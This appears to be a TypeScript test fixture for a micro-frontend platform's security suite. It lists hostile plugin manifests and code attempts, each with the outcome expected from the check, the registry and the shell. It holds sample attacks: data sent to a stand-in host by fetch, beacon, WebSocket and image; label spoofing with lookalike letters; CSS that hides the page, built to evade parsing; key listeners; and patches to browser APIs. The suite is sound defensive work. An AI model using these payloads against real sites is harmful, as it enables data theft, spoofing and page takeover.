import type { Attack } from './attack';
import { attestations } from './attestation-attacks';
import { editingAttacks } from './editing-attacks';
import { holdingAttacks } from './holding-attacks';
import { languageAttacks } from './language-attacks';
import { lateAttacks } from './late-attacks';
import { pageAttacks } from './page-attacks';
import { passwordAttacks } from './password-attacks';
import { realmAttacks } from './realm-attacks';
import { shellAttacks } from './shell-attacks';
import { storageAttacks } from './storage-attacks';

const everywhere = { check: 'refused', registry: 'refused', shell: 'refused' } as const;
const onlyInPage = { check: 'passes', registry: 'passes', shell: 'refused' } as const;

const own = { path: '/hostil', title: 'Hostil' };
const entry = { to: '/hostil', label: 'Hostil', order: 900 };

/** Parts of a manifest that have another type than the contract's. */
const wrongTypes: readonly Attack[] = [
  { what: 'lists no file in its files', manifest: { files: [null] }, reason: /files/ },
  {
    what: 'has a short label that is no text',
    manifest: { menu: [{ ...entry, shortLabel: {} }] },
    reason: /shortLabel/,
  },
  {
    what: 'requires a product that is in no list',
    manifest: { menu: [{ ...entry, requires: { anyProduct: 5 } }] },
    reason: /anyProduct/,
  },
  {
    what: 'has a reason for a missing product that is no text',
    manifest: { menu: [{ ...entry, requires: { rol: 1 }, whenMissing: { disabled: {} } }] },
    reason: /disabled/,
  },
  {
    what: 'has a command that requires a product in no list',
    manifest: { commands: [{ id: 'ir', label: 'Ir', to: '/hostil', requires: { anyProduct: 5 } }] },
    reason: /anyProduct/,
  },
].map((attack) => ({ ...attack, what: `signs a manifest that ${attack.what}`, at: everywhere }));

const claims: readonly Attack[] = [
  ...['/payment', '/PAYMENT', '/payment/oferta', '/:any', '/', '/panel/:cuenta', '/admin-usuarios'].map(
    (path) => ({
      what: `takes the address ${path}`,
      manifest: { routes: [own, { path, title: 'Hostil' }] },
      reason: /address|belongs to/,
      at: everywhere,
    }),
  ),
  {
    what: 'takes an address in escapes: /%70ayment',
    manifest: { routes: [own, { path: '/%70ayment', title: 'Hostil' }] },
    reason: /routes\.1\.path/,
    at: everywhere,
  },
  {
    what: 'is the landing page of all users',
    manifest: { routes: [{ ...own, landing: {} }] },
    reason: /landing/,
    at: everywhere,
  },
  {
    what: 'shows a screen without a session, such as a false sign-in',
    manifest: { routes: [{ ...own, access: 'signed-out' }] },
    reason: /signed-out/,
    at: everywhere,
  },
  {
    what: 'shows a screen without the frame of the platform',
    manifest: { routes: [{ ...own, layout: 'bare' }] },
    reason: /bare/,
    at: everywhere,
  },
  {
    what: 'adds a menu entry to a screen of another team',
    manifest: { menu: [{ ...entry, to: '/payment' }] },
    reason: /payment/,
    at: everywhere,
  },
  {
    what: 'marks its entry as current at a screen of another team',
    manifest: { menu: [{ ...entry, alsoAt: ['/payment'] }] },
    reason: /payment/,
    at: everywhere,
  },
  {
    what: 'puts its entry into the bar',
    manifest: { menu: [{ ...entry, place: 'top' }] },
    reason: /place top/,
    at: everywhere,
  },
  {
    what: 'puts its entry into the group of the administration',
    manifest: { menu: [{ ...entry, group: 'Administración' }] },
    reason: /group Administración/,
    at: everywhere,
  },
  {
    what: 'fills the menu with 30 entries',
    manifest: { menu: Array.from({ length: 30 }, () => entry) },
    reason: /menu entries 30/,
    at: everywhere,
  },
  {
    what: 'adds a palette command to a screen of another team',
    manifest: { commands: [{ id: 'pagar', label: 'Pagar', to: '/payment' }] },
    reason: /payment/,
    at: everywhere,
  },
  {
    what: 'names its container like that of another remote',
    manifest: { container: 'parque_catalogue_1_0_0' },
    reason: /container|is not named/,
    at: everywhere,
  },
  {
    what: 'imitates a menu entry with letters of another script',
    manifest: { menu: [{ ...entry, label: 'D\u0430shboard' }] },
    reason: /Latin letters/,
    at: { check: 'refused', registry: 'refused' },
  },
  {
    what: 'paints over the entries around its own by marks above a letter',
    manifest: { menu: [{ ...entry, label: `H${'\u0301'.repeat(30)}` }] },
    reason: /two marks/,
    at: { check: 'refused', registry: 'refused' },
  },
  {
    what: 'has half a character in its title',
    manifest: { title: 'Hostil\ud800' },
    reason: /title/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'turns the direction of the texts after its label',
    manifest: { menu: [{ ...entry, label: 'Hostil\u202e' }] },
    reason: /Latin letters/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'has an order that no number can have',
    manifest: { menu: [{ ...entry, order: 2 ** 53 }] },
    reason: /order/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'imitates a menu entry of another team in other letters',
    manifest: { menu: [{ ...entry, label: 'PRODÚCTOS' }] },
    reason: /label PRODÚCTOS belongs to catalogue/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'puts its entry before all others by an order below them',
    manifest: { menu: [{ ...entry, order: -1 }] },
    reason: /order/,
    at: everywhere,
  },
  {
    what: 'puts its entry before those of the platform by the order 0',
    manifest: { menu: [{ ...entry, order: 0 }] },
    reason: /the order 0/,
    at: everywhere,
  },
  ...wrongTypes,
  {
    what: 'makes every page larger with 3,000 menu entries',
    manifest: { menu: Array.from({ length: 3000 }, () => entry) },
    reason: /menu/,
    at: everywhere,
  },
];

const signatures: readonly Attack[] = [
  {
    what: 'is signed by another team',
    signedBy: 'another team',
    reason: /signature_refused/,
    at: { registry: 'refused', shell: 'refused' },
  },
  {
    what: 'has no valid signature',
    signedBy: 'an invalid signature',
    reason: /signature_refused/,
    at: { registry: 'refused', shell: 'refused' },
  },
];

const versions: readonly Attack[] = [
  {
    what: 'needs React 18',
    manifest: { shared: { react: '^18.0.0' } },
    reason: /needs react \^18/,
    at: everywhere,
  },
  {
    what: 'needs a newer minor version of the design system',
    manifest: { shared: { '@parque/ui': '^1.900.0' } },
    reason: /needs @parque\/ui \^1\.900/,
    at: everywhere,
  },
  {
    what: 'needs a host API that does not exist',
    manifest: { hostApi: '^9.0.0' },
    reason: /needs host API \^9/,
    at: everywhere,
  },
];

const styles: readonly Attack[] = [
  {
    what: 'hides the whole page by `*{display:none!important}`',
    files: { 'a.css': '*{display:none!important}' },
    reason: /the selector \* would style/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'covers the whole page from the body',
    files: { 'a.css': 'body::after{content:"";position:fixed;inset:0;z-index:9999}' },
    reason: /body::after/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'styles the classes of another remote',
    files: { 'a.css': '[class*="catalogue-"]{display:none!important}' },
    reason: /catalogue-/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'replaces an animation of another remote',
    files: { 'a.css': '@keyframes girar{to{opacity:0}}' },
    reason: /animation girar/,
    at: { check: 'refused', registry: 'refused', shell: 'contained' },
  },
  {
    what: 'imports a style sheet without a signature',
    files: { 'a.css': '@import "/pictures/x.css";' },
    reason: /imports another/,
    at: everywhere,
  },
];

/** Style sheets whose reach is hidden by the syntax. */
const hiddenStyles: readonly Attack[] = [
  {
    what: 'hides the page around it by a nested rule',
    files: { 'a.css': '.hostil-a{top:0;:root:has(&),*:not(&){display:none!important}}' },
    reason: /:root:has/,
  },
  {
    what: 'hides the page by a nesting selector without a rule around it',
    files: { 'a.css': '&{display:none!important}' },
    reason: /the selector &/,
  },
  {
    what: 'hides the page by a nesting selector in a scope of the root',
    files: { 'a.css': '@scope(:root){& *{display:none!important}}' },
    reason: /the selector & \*/,
  },
  {
    what: 'hides what is beside its elements',
    files: { 'a.css': '.hostil-a~*,:is(.hostil-a+*){display:none!important}' },
    reason: /~\*/,
  },
  {
    what: 'registers a custom property of the design system in a style sheet',
    files: { 'a.css': '@property --pq-text{syntax:"<length>";inherits:false;initial-value:0px}' },
    reason: /@property/,
  },
  {
    what: 'replaces the font of the page',
    files: { 'a.css': '@font-face{font-family:Inter;src:local(Wingdings)}' },
    reason: /@font-face/,
  },
  {
    what: 'hides a rule of the page from the check by a broken string',
    files: { 'a.css': '.hostil-a{content:"x\n}body{display:none!important}.hostil-b{content:"}' },
    reason: /broken string/,
  },
  {
    what: 'hides a rule of the page from the check by a comment in an address',
    files: { 'a.css': '.hostil-a{top:url(/*)}body{display:none!important}/*)*/' },
    reason: /broken string/,
  },
].map((attack) => ({
  ...attack,
  at: { check: 'refused', registry: 'refused', shell: 'contained' } as const,
}));

const sizes: readonly Attack[] = [
  {
    what: 'has a script of 15 MB',
    files: { 'a.js': 'a'.repeat(15_000_000) },
    reason: /15000\.\d kB/,
    at: { check: 'refused', registry: 'refused' },
  },
  {
    what: 'has 200 files',
    files: Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`${i}.js`, '1'])),
    reason: /20\d files/,
    at: { check: 'refused', registry: 'refused' },
  },
  {
    what: 'publishes a picture that pages would paint unverified',
    files: { 'a.svg': '<svg/>' },
    reason: /a\.svg would not be loaded/,
    at: { check: 'refused', registry: 'refused' },
  },
  {
    what: 'has a worker that imports code',
    files: { 'worker.1.js': "import('/shell/main.js')" },
    reason: /imports code/,
    at: everywhere,
  },
];

/** Code that its check cannot see: what counts is what the page does. */
const code: readonly Attack[] = [
  {
    what: 'sends data away by fetch',
    attempt: () =>
      fetch('https://ajena.example/?dato=1').then(
        () => 'passes',
        () => 'refused',
      ),
    at: onlyInPage,
  },
  {
    what: 'sends data away by a beacon',
    attempt: async () =>
      new Promise((done) => {
        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
        navigator.sendBeacon('https://ajena.example/', '1');
      }),
    at: onlyInPage,
  },
  {
    what: 'sends data away by a WebSocket',
    attempt: async () =>
      new Promise((done) => {
        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
        new WebSocket('wss://ajena.example/').onopen = () => done('passes');
      }),
    at: onlyInPage,
  },
  {
    what: 'sends data away in the address of a picture',
    attempt: async () =>
      new Promise((done) => {
        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
        new Image().src = 'https://ajena.example/?dato=1';
      }),
    at: onlyInPage,
  },
  {
    what: 'sends data away by a form',
    attempt: async () =>
      new Promise((done) => {
        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
        const form = document.createElement('form');
        form.action = 'https://ajena.example/';
        document.body.append(form);
        // `form.submit` is refused before the policy applies; it has a row of its own.
        form.requestSubmit();
      }),
    at: onlyInPage,
  },
  {
    what: 'shows a frame of another origin',
    attempt: async () =>
      new Promise((done) => {
        document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
        try {
          const frame = document.createElement('iframe');
          frame.src = 'https://ajena.example/';
          document.body.append(frame);
        } catch {
          done('refused');
        }
      }),
    at: onlyInPage,
  },
  {
    what: 'runs text as code by eval',
    attempt: async () => {
      try {
        return String((0, eval)('"passes"'));
      } catch {
        return 'refused';
      }
    },
    at: onlyInPage,
  },
  {
    what: 'inserts HTML from text',
    attempt: async () => {
      try {
        document.createElement('div').innerHTML = '<b>x</b>';
        return 'passes';
      } catch {
        return 'refused';
      }
    },
    at: onlyInPage,
  },
  {
    what: 'loads a script that no release lists',
    attempt: async () => {
      try {
        document.createElement('script').src = '/remotes/hostil/9.9.9/otro.js';
        return 'passes';
      } catch {
        return 'refused';
      }
    },
    at: onlyInPage,
  },
  {
    what: 'imports a module that no release lists',
    attempt: async () => {
      const address: string = '/remotes/hostil/9.9.9/otro.js';
      return import(address).then(
        () => 'passes',
        () => 'refused',
      );
    },
    at: onlyInPage,
  },
  {
    what: 'starts a worker from text',
    attempt: async () => {
      try {
        new Worker(URL.createObjectURL(new Blob(['1'])));
        return 'passes';
      } catch {
        return 'refused';
      }
    },
    at: onlyInPage,
  },
  {
    what: 'loads a module into an audio worklet',
    attempt: async () => {
      try {
        await new AudioContext().audioWorklet.addModule('/shell/x.js');
        return 'passes';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : 'passes';
      }
    },
    reason: /calls addModule/,
    at: everywhere,
  },
  {
    what: 'reads the session of the user',
    attempt: async () => (sessionStorage.getItem('token') ? 'passes' : 'refused'),
    at: { check: 'passes', registry: 'passes', shell: 'passes' },
  },
];

const contained = { check: 'passes', registry: 'passes', shell: 'contained' } as const;

/** Code that still runs marks the page; the mark is deleted, and looked for again. */
const isMarkedAgain = () => {
  const { dataset } = document.documentElement;
  delete dataset.hostil;
  window.dispatchEvent(new Event('resize'));
  document.dispatchEvent(new KeyboardEvent('keydown', { key: 'a' }));
  document.body.append(document.createElement('i'));
  return new Promise<boolean>((done) => setTimeout(() => done('hostil' in dataset), 200));
};

/** What code leaves on the page when its visit ends. */
const leaks: readonly Attack[] = [
  {
    what: 'leaves an interval running',
    attempt: async () => {
      setInterval(() => (document.documentElement.dataset.hostil = '1'), 20);
      return 'passes';
    },
    finding: 'timer',
  },
  {
    what: 'leaves a loop of animation frames running',
    attempt: async () => {
      const draw = () => {
        document.documentElement.dataset.hostil = '1';
        requestAnimationFrame(draw);
      };
      draw();
      return 'passes';
    },
    finding: 'timer',
  },
  {
    what: 'leaves a listener on the window',
    attempt: async () => {
      window.addEventListener('resize', () => (document.documentElement.dataset.hostil = '1'));
      return 'passes';
    },
    finding: 'listener',
  },
  {
    what: 'leaves a listener on the document, which hears each key',
    attempt: async () => {
      document.addEventListener('keydown', () => (document.documentElement.dataset.hostil = '1'), true);
      return 'passes';
    },
    finding: 'listener',
  },
  {
    what: 'leaves an observer of the whole page',
    attempt: async () => {
      const observer = new MutationObserver(() => (document.documentElement.dataset.hostil = '1'));
      observer.observe(document.body, { childList: true, subtree: true });
      return 'passes';
    },
    finding: 'observer',
  },
  {
    what: 'leaves an adopted style sheet that hides the page',
    attempt: async () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync('*{display:none!important}');
      document.adoptedStyleSheets.push(sheet);
      return 'passes';
    },
    finding: 'style_sheet',
    remains: () => document.adoptedStyleSheets.length > 0,
  },
  {
    what: 'leaves a name on the window',
    inMount: () => void Object.assign(window, { hostilGlobal: 1 }),
    finding: 'global',
    remains: () => 'hostilGlobal' in window,
  },
].map((leak) => ({ remains: isMarkedAgain, ...leak, at: contained }));

/** Functions of the browser that every remote uses. Each is replaced by one that throws. */
const patches: readonly Attack[] = [
  {
    what: 'replaces fetch for the whole page',
    attempt: async () => {
      window.fetch = function hostil() {
        throw new Error('hostil');
      };
      return 'passes';
    },
    remains: () => window.fetch.name === 'hostil',
  },
  {
    what: 'defines fetch again for the whole page',
    inMount: () => {
      const value = function hostil() {
        throw new Error('hostil');
      };
      Object.defineProperty(window, 'fetch', { value, configurable: true });
    },
    remains: () => window.fetch.name === 'hostil',
  },
  {
    what: 'replaces XMLHttpRequest for the whole page',
    attempt: async () => {
      window.XMLHttpRequest = class hostil extends XMLHttpRequest {
        override open() {
          throw new Error('hostil');
        }
      };
      return 'passes';
    },
    remains: () => window.XMLHttpRequest.name === 'hostil',
  },
  {
    what: 'replaces XMLHttpRequest.prototype.open',
    attempt: async () => {
      XMLHttpRequest.prototype.open = function hostil() {
        throw new Error('hostil');
      };
      return 'passes';
    },
    remains: () => XMLHttpRequest.prototype.open.name === 'hostil',
  },
  {
    what: 'replaces history.pushState',
    attempt: async () => {
      history.pushState = function hostil() {
        throw new Error('hostil');
      };
      return 'passes';
    },
    remains: () => history.pushState.name === 'hostil',
  },
  {
    what: 'replaces History.prototype.replaceState',
    attempt: async () => {
      History.prototype.replaceState = function hostil() {
        throw new Error('hostil');
      };
      return 'passes';
    },
    remains: () => History.prototype.replaceState.name === 'hostil',
  },
  {
    what: 'replaces Storage.prototype.setItem',
    attempt: async () => {
      Storage.prototype.setItem = function hostil() {
        throw new Error('hostil');
      };
      return 'passes';
    },
    remains: () => Storage.prototype.setItem.name === 'hostil',
  },
].map((patch) => ({ ...patch, finding: 'patch', at: contained }));

export const attacks: readonly Attack[] = [
  ...claims,
  ...signatures,
  ...attestations,
  ...versions,
  ...styles,
  ...hiddenStyles,
  ...sizes,
  ...code,
  ...leaks,
  ...patches,
  ...pageAttacks,
  ...languageAttacks,
  ...shellAttacks,
  ...realmAttacks,
  ...editingAttacks,
  ...storageAttacks,
  ...lateAttacks,
  ...holdingAttacks,
  ...passwordAttacks,
];
